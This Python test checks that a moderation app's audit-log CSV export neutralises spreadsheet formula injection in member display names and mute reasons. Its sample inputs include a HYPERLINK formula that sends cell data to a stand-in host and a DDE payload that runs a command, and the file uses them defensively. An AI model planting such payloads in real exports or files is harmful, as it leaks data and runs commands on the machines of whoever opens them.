"""The audit log's CSV export is opened in spreadsheets: text from members (display names, reasons,
message text) must never run as a formula there (issue #7, hostile input)."""

from __future__ import annotations

import csv
import io

from rest_framework.test import APIClient

from accounts.models import User
from moderation import services

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_formulas_in_the_audit_csv_are_neutralised(public_group, librarian, member, library):
    User.objects.filter(pk=member.pk).update(display_name=FORMULAS[0])
    for reason in FORMULAS[1:]:
        services.member_mute(actor=librarian, group=public_group, user=member, reason=reason, minutes=5)
    client = APIClient()
    client.force_authenticate(librarian)

    response = client.get(f"/api/v1/moderation/libraries/{library.slug}/audit/?format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["target"] for row in rows} == {"'" + FORMULAS[0]}
    assert sorted(row["reason"] for row in rows) == sorted("'" + f for f in FORMULAS[1:])
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    # The JSON view is not a spreadsheet: it shows the text as it is.
    listed = client.get(f"/api/v1/moderation/libraries/{library.slug}/audit/").json()
    assert {entry["target"] for entry in listed} == {FORMULAS[0]}
